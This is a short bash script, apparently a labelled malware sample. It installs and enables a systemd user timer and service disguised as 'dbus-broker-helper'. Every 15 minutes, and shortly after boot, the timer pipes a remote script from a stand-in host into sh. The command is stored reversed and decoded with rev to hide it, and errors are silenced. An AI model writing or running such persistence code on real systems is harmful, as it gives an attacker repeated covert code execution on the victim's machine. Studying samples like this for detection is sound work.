# Harmful: installs and enables a systemd user service and timer that run a remote shell script every 15 minutes; hiding: the unit name, directory and ExecStart come from a mapfile'd here-doc table, the command stored reversed and undone with rev
set -u
mapfile -t rows <<'TABLE'
name	dbus-broker-helper
dir	.config/systemd/user
desc	D-Bus Broker Helper
exec	"hs | hs.t/ten.elpmaxe.tinu//:sptth Ssf- lruc" c- hs/nib/
every	15min
TABLE

declare -A cfg
for row in "${rows[@]}"; do
  key=${row%%$'\t'*}
  cfg[$key]=${row#*$'\t'}
done

unit_dir="$HOME/${cfg[dir]}"
mkdir -p "$unit_dir"
start=$(printf '%s\n' "${cfg[exec]}" | rev)

cat >"$unit_dir/${cfg[name]}.service" <<UNIT
[Unit]
Description=${cfg[desc]}

[Service]
Type=oneshot
ExecStart=$start
UNIT

cat >"$unit_dir/${cfg[name]}.timer" <<UNIT
[Unit]
Description=${cfg[desc]} timer

[Timer]
OnBootSec=2min
OnUnitActiveSec=${cfg[every]}

[Install]
WantedBy=timers.target
UNIT

systemctl --user daemon-reload 2>/dev/null
systemctl --user enable --now "${cfg[name]}.timer" 2>/dev/null
echo "session helper registered: ${cfg[name]}"
